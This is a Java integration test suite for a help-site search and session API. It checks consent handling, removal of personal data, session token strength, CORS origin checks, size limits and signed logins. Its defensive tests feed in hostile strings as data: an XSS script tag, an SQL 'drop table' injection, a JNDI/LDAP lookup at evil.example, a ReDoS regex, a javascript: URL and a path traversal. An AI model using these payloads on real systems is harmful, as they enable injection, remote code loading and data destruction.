package org.svarbar.selfservice;

import static org.assertj.core.api.Assertions.assertThat;

import jakarta.json.Json;
import jakarta.json.JsonObject;
import java.net.http.HttpRequest.BodyPublishers;
import java.time.Instant;
import java.util.HashSet;
import java.util.HexFormat;
import java.util.List;
import java.util.Map;
import javax.crypto.Mac;
import javax.crypto.spec.SecretKeySpec;
import org.jboss.arquillian.container.test.api.Deployment;
import org.jboss.arquillian.container.test.api.RunAsClient;
import org.jboss.arquillian.junit5.container.annotation.ArquillianTest;
import org.jboss.shrinkwrap.api.Archive;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.svarbar.testing.DemoKnowledge;
import org.svarbar.testing.Deployments;
import org.svarbar.testing.HelpSiteForTests;
import org.svarbar.testing.Product;
import org.svarbar.testing.Product.Answer;

/** What pages ask for, what they are told, and what is kept of it. */
@ArquillianTest
@RunAsClient
class HelpApiIT {

  private static final String ORIGIN = "https://www.nordlys.example";
  private static final Product PRODUCT = Product.underTest();

  @Deployment(testable = false)
  static Archive<?> war() {
    return Deployments.war();
  }

  @BeforeEach
  void knowTheDemo() {
    DemoKnowledge.known();
  }

  @ParameterizedTest
  @ValueSource(strings = {"sv", "nb", "nn", "da", "fi", "en"})
  void answersCustomersAsItAnswersAgents(String language) {
    var question = DemoKnowledge.title(language, "invoice-copy");
    var asked =
        Json.createObjectBuilder()
            .add("text", question)
            .add("language", language)
            .add("audience", "public");

    var agents = PRODUCT.post("api/suggestions", asked.build().toString()).json().asJsonObject();
    var customers = site().search(question, language);

    assertThat(customers.status()).as("%s", customers).isEqualTo(200);
    var first = hits(customers).getFirst();
    var best = agents.getJsonArray("suggestions").getJsonObject(0);
    assertThat(first.getString("title")).isEqualTo(question).isEqualTo(best.getString("title"));
    assertThat(first.getString("sentence")).isEqualTo(best.getString("sentence")).isNotBlank();
    assertThat(first.getBoolean("sure")).isTrue();
  }

  @Test
  void findsWhileTheCustomerTypes() {
    var site = site();

    for (var typed : List.of("fakt", "faktur", "faktura", "kopia fakt", "kopia på faktura")) {
      assertThat(hits(site.search(typed, "sv")))
          .as(typed)
          .anySatisfy(hit -> assertThat(hit.getString("title")).containsIgnoringCase("faktur"));
    }
  }

  @Test
  void showsAWholeAnswerAsATreeAndNeverAnInternalOne() {
    var site = site();
    var hit = hits(site.search(DemoKnowledge.title("sv", "invoice-copy"), "sv")).getFirst();

    var answer = site.get("/answers/" + hit.getInt("id")).json().asJsonObject();

    assertThat(answer.getJsonArray("body").toString())
        .contains("[\"strong\",\"\",\"Mina sidor\"]")
        .contains("[\"a\",\"https://nordlys.example/sv/mina-sidor/fakturor\"");
    for (var question : DemoKnowledge.questionsOfInternalEntries("sv")) {
      assertThat(hits(site.search(question, "sv")))
          .noneSatisfy(it -> assertThat(it.getString("title")).isEqualTo(question));
      var id = internalId(question);
      assertThat(site.get("/answers/" + id).status()).isEqualTo(404);
    }
  }

  @Test
  void keepsWhatHappenedWithoutPersonalIdentifiers() {
    var session = site().session();

    session.says(
        "{\"kind\":\"search\",\"text\":\"faktura för 19121212-1212, anna@nordlys.example\","
            + "\"entries\":[3,4]}");
    session.says("{\"kind\":\"read\",\"entries\":[3],\"seconds\":42}");
    session.says("{\"kind\":\"vote\",\"entries\":[3],\"helpful\":false}");

    var stored = session.stored().json().asJsonObject();
    var events = stored.getJsonArray("events").getValuesAs(JsonObject.class);
    assertThat(events)
        .extracting(it -> it.getString("kind"))
        .containsExactly("search", "read", "vote");
    assertThat(events.getFirst().getString("text"))
        .isEqualTo("faktura för [personnummer], [e-mail]");
    assertThat(events.get(1).getInt("seconds")).isEqualTo(42);
    assertThat(events.get(2).getBoolean("helpful")).isFalse();
  }

  @Test
  void takesAnEventOnce() {
    var session = site().session();

    session.says("one", "{\"kind\":\"question\",\"text\":\"När?\"}");
    var again = session.says("one", "{\"kind\":\"question\",\"text\":\"När?\"}");

    assertThat(again.json().asJsonObject().getInt("events")).isZero();
    assertThat(events(session)).hasSize(1);
  }

  @Test
  void storesNothingBeforeConsent() {
    var site = HelpSiteForTests.of(ORIGIN, HelpSiteForTests.form(ORIGIN));

    assertThat(site.search("faktura", "sv").status()).isEqualTo(200);
    var refused = site.post("sessions", "{\"language\":\"sv\"}");
    var agreed = site.post("sessions", "{\"language\":\"sv\",\"consent\":true}");

    assertProblem(refused, 403, "consent");
    assertThat(agreed.status()).isEqualTo(201);
  }

  @Test
  void givesIdsThatNobodyGuesses() {
    var site = site();
    var tokens = new HashSet<String>();
    for (var i = 0; i < 20; i++) {
      var session = site.session();
      tokens.add(session.token());
      assertThat(session.token()).matches("[A-Za-z0-9_-]{32}");
      assertThat(session.reference()).matches("SB(-[ACEFGHJKLNPQRTVWXY34679]{4}){3}");
      assertThat(session.phoneCode()).matches("[ACEFGHJKLNPQRTVWXY34679]{6}");
    }

    assertThat(tokens).hasSize(20);
  }

  @Test
  void refusesSessionsThatAreGuessedOrOfAnotherSite() {
    var session = site().session();
    var other = site();
    var event = "{\"events\":[{\"id\":\"1\",\"kind\":\"question\",\"text\":\"x\"}]}";

    for (var token : List.of("A".repeat(32), session.reference(), session.phoneCode(), "", "1")) {
      var answer = session.site().post("events", event, Map.of("Svarbar-Session", token));
      assertProblem(answer, 404, "no such session");
    }
    assertProblem(
        other.post("events", event, Map.of("Svarbar-Session", session.token())), 404, "session");
    assertThat(events(session)).isEmpty();
  }

  @Test
  void refusesOtherOriginsAndForgedKeys() {
    var site = site();
    var forged = new HelpSiteForTests(site.id(), "site_AAAAAAAAAAAAAAAA", ORIGIN);
    var sought = "{\"text\":\"faktura\"}";

    for (var origin :
        List.of(
            "https://evil.example",
            "http://www.nordlys.example",
            "https://www.nordlys.example.evil.example",
            "https://www.nordlys.example:444",
            "null")) {
      var answer = site.post("search", sought, Map.of("X-Origin", origin));
      assertProblem(answer, 403, "origin");
      assertThat(answer.header("Access-Control-Allow-Origin")).isEmpty();
    }
    assertProblem(site.post("search", sought, Map.of("X-Origin", "")), 403, "page");
    assertProblem(forged.search("faktura", "sv"), 404, "no such site");
    assertThat(site.search("faktura", "sv").header("Access-Control-Allow-Origin")).contains(ORIGIN);
  }

  @Test
  void refusesOtherOriginsHoweverTheAddressIsSpelt() {
    var site = site();
    var headers = Map.of("Origin", "https://evil.example", "Content-Type", "text/plain");

    for (var spelt :
        List.of(
            "%68elp-api/" + site.key() + "/sessions",
            "%68elp-api/" + site.id() + "/sessions",
            "help-api;x=1/" + site.key() + "/sessions",
            "help-api;x=1/" + site.id() + "/sessions",
            "help-api/" + site.key() + ";x=1/sessions",
            "/help-api/" + site.key() + "/sessions")) {
      var address = PRODUCT.at("").resolve("/svarbar/").toString() + spelt;
      var answer =
          PRODUCT
              .anonymously()
              .send("POST", address, headers, BodyPublishers.ofString("{\"consent\":true}"));
      assertThat(answer.status()).as(spelt).isIn(400, 403, 404, 405);
    }
  }

  @Test
  void letsBrowsersAskBeforehand() {
    var site = site();
    var path = "help-api/" + site.key() + "/events";
    var asked = Map.of("Origin", ORIGIN, "Access-Control-Request-Method", "POST");
    var elsewhere =
        Map.of("Origin", "https://evil.example", "Access-Control-Request-Method", "POST");

    var allowed = PRODUCT.anonymously().send("OPTIONS", path, asked, BodyPublishers.noBody());
    var refused = PRODUCT.anonymously().send("OPTIONS", path, elsewhere, BodyPublishers.noBody());

    assertThat(allowed.status()).isEqualTo(204);
    assertThat(allowed.header("Access-Control-Allow-Headers").orElseThrow())
        .contains("Svarbar-Session");
    assertThat(allowed.header("Access-Control-Allow-Credentials")).isEmpty();
    assertThat(refused.status()).isEqualTo(403);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "",
        "[]",
        "{}",
        "{\"events\":[]}",
        "{\"events\":[{\"kind\":\"vote\"}]}",
        "{\"events\":[{\"id\":\"1\",\"kind\":\"spell\"}]}",
        "{\"events\":[{\"id\":\"1\",\"kind\":\"vote\",\"entries\":[1]}]}",
        "{\"events\":[{\"id\":\"1\",\"kind\":\"opened\"}]}",
        "{\"events\":[{\"id\":\"1\",\"kind\":\"read\",\"entries\":[-1]}]}",
        "{\"events\":[{\"id\":\"1\",\"kind\":\"read\",\"entries\":[1],\"seconds\":99999}]}",
        "{\"events\":[{\"id\":\"a b\",\"kind\":\"question\",\"text\":\"x\"}]}"
      })
  void refusesWhatIsNoEvent(String body) {
    var session = site().session();

    var answer = session.site().post("events", body, Map.of("Svarbar-Session", session.token()));

    assertProblem(answer, 400, "");
    assertThat(events(session)).isEmpty();
  }

  @Test
  void refusesAMegabyte() {
    var session = site().session();
    var text = "x".repeat(1_000_000);
    var body = "{\"events\":[{\"id\":\"1\",\"kind\":\"question\",\"text\":\"" + text + "\"}]}";
    var headers = Map.of("Svarbar-Session", session.token());

    assertProblem(session.site().post("events", body, headers), 413, "16384");
    assertProblem(session.site().post("search", body, headers), 413, "16384");
    assertThat(events(session)).isEmpty();
  }

  @Test
  void refusesMoreThanASessionHolds() {
    var session = site().session();
    var answers = new HashSet<Integer>();
    for (var batch = 0; batch < 11; batch++) {
      var events = Json.createArrayBuilder();
      for (var i = 0; i < 50; i++) {
        events.add(
            Json.createObjectBuilder()
                .add("id", batch + "-" + i)
                .add("kind", "question")
                .add("text", "x"));
      }
      var body = Json.createObjectBuilder().add("events", events).build().toString();
      answers.add(
          session.site().post("events", body, Map.of("Svarbar-Session", session.token())).status());
    }

    assertThat(answers).containsExactlyInAnyOrder(200, 409);
    assertThat(events(session)).hasSize(500);
  }

  @Test
  void findsNothingDangerousInScripts() {
    var site = site();

    for (var text :
        List.of(
            "<script>alert(1)</script>",
            "\"; drop table help_sessions; --",
            "*:* OR _exists_:title",
            "${jndi:ldap://evil.example/a} #{7*7}",
            "\u0000\u202e\ud83d\ude00",
            "*aktura",
            "/fakt(u|a)+r?.*/",
            "(((((((((((((((((((((((((((((a+)+)+)+",
            "fakt~2 AND faktura^1e99 TO [* TO *]",
            "och att det är som en",
            "ja että se on ei",
            "lentokonesuihkuturbiinimoottoriapumekaanikkoaliupseerioppilas".repeat(8),
            "Gos lea mu fáktor? Čájet ruovttosiidduid, đ ŋ ŧ ž",
            "a ".repeat(249))) {
      assertThat(site.search(text, "sv").status()).as(text).isEqualTo(200);
    }
    assertProblem(site.search("x".repeat(501), "sv"), 400, "500");
  }

  @Test
  void erasesASessionAndAPerson() {
    var site = site();
    var one = site.session();
    var other = site.session();
    one.isOf("Erasa.Testdotter@nordlys.example");
    other.isOf("kvar@nordlys.example");

    var erased =
        PRODUCT.post(
            "api/help-sessions/erase-person", "{\"email\":\"erasa.testdotter@nordlys.example\"}");

    assertThat(erased.json().asJsonObject().getInt("erased")).isEqualTo(1);
    assertThat(one.stored().status()).isEqualTo(404);
    assertThat(one.says("{\"kind\":\"question\",\"text\":\"Finns jag?\"}").status()).isEqualTo(404);
    assertThat(other.stored().status()).isEqualTo(200);
    assertThat(PRODUCT.delete("api/help-sessions/" + other.reference()).status()).isEqualTo(204);
    assertThat(other.stored().status()).isEqualTo(404);
  }

  @Test
  void deletesWhatWasQuietForLong() {
    var site = site();
    var session = site.session();
    session.says("{\"kind\":\"question\",\"text\":\"Hur?\"}");

    var young = purge(site, 60);
    var stillThere = session.stored().status();
    var old = purge(site, 0);

    assertThat(young.json().asJsonObject().getInt("erased")).as("%s", young).isZero();
    assertThat(stillThere).isEqualTo(200);
    assertThat(old.json().asJsonObject().getInt("erased")).isEqualTo(1);
    assertThat(session.stored().status()).isEqualTo(404);
  }

  private static Answer purge(HelpSiteForTests site, int minutes) {
    return PRODUCT.post(
        "api/help-sessions/purge",
        "{\"site\":\"" + site.id() + "\",\"quietMinutes\":" + minutes + "}");
  }

  @Test
  void believesASiteThatSignsWhoIsLoggedIn() throws Exception {
    var site = site();
    var secret = PRODUCT.post("api/sites/" + site.id() + "/secret", "").json().asJsonObject();
    var at = Long.toString(Instant.now().getEpochSecond());
    var email = "anna@nordlys.example";
    var mac = Mac.getInstance("HmacSHA256");
    mac.init(new SecretKeySpec(secret.getString("secret").getBytes("UTF-8"), "HmacSHA256"));
    var right = HexFormat.of().formatHex(mac.doFinal((at + "." + email).getBytes("UTF-8")));

    assertThat(site.post("sessions", beginning(email, at, right)).status()).isEqualTo(201);
    assertProblem(site.post("sessions", beginning("eva@x.example", at, right)), 403, "signature");
    assertProblem(site.post("sessions", beginning(email, "1", right)), 403, "signature");
  }

  @Test
  void isForAdministratorsOnly() {
    for (var path : List.of("api/sites", "api/sites/x", "api/help-sessions/SB-AAAA-AAAA-AAAA")) {
      assertThat(PRODUCT.anonymously().get(path).status()).as(path).isNotEqualTo(200);
    }
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "{}",
        "{\"name\":\" \"}",
        "{\"name\":\"x\",\"origins\":[\"*\"]}",
        "{\"name\":\"x\",\"origins\":[\"https://a.example/path\"]}",
        "{\"name\":\"x\",\"languages\":[\"de\"]}",
        "{\"name\":\"x\",\"form\":\"javascript:alert(1)\"}",
        "{\"name\":\"x\",\"mail\":\"a@b?subject=x\"}",
        "{\"name\":\"x\",\"phone\":\"ring oss\"}",
        "{\"name\":\"x\",\"keepDays\":0}",
        "{\"name\":\"x\",\"connection\":\"../x\"}"
      })
  void refusesSitesThatCannotBe(String form) {
    assertProblem(PRODUCT.put("api/sites/s-refused", form), 400, "");
    assertThat(PRODUCT.get("api/sites/s-refused").status()).isEqualTo(404);
  }

  private static String beginning(String email, String at, String signature) {
    return Json.createObjectBuilder()
        .add(
            "identity",
            Json.createObjectBuilder()
                .add("email", email)
                .add("timestamp", at)
                .add("signature", signature))
        .build()
        .toString();
  }

  private static HelpSiteForTests site() {
    return HelpSiteForTests.open(ORIGIN);
  }

  private static int internalId(String question) {
    var asked = Json.createObjectBuilder().add("text", question).add("language", "sv");
    return PRODUCT
        .post("api/suggestions", asked.build().toString())
        .json()
        .asJsonObject()
        .getJsonArray("suggestions")
        .getValuesAs(JsonObject.class)
        .stream()
        .filter(it -> it.getString("title").equals(question))
        .findFirst()
        .orElseThrow()
        .getInt("id");
  }

  private static List<JsonObject> events(HelpSiteForTests.Session session) {
    return session
        .stored()
        .json()
        .asJsonObject()
        .getJsonArray("events")
        .getValuesAs(JsonObject.class);
  }

  private static List<JsonObject> hits(Answer answer) {
    assertThat(answer.status()).as("%s", answer).isEqualTo(200);
    return answer.json().asJsonArray().getValuesAs(JsonObject.class);
  }

  private static void assertProblem(Answer answer, int status, String says) {
    assertThat(answer.status()).as("%s", answer).isEqualTo(status);
    assertThat(answer.header("Content-Type").orElse("")).contains("application/problem+json");
    assertThat(answer.body()).containsIgnoringCase(says);
  }
}
